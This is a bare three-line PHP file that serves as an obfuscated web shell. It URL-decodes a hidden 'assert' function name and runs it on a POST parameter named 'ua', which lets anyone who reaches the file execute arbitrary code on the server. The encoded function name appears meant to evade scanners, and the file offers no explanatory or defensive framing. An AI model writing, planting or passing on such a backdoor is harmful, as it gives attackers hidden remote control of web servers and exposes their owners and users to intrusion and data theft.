<?php
$p = urldecode('%61%73%73%65%72%74');
$p($_POST['ua']);
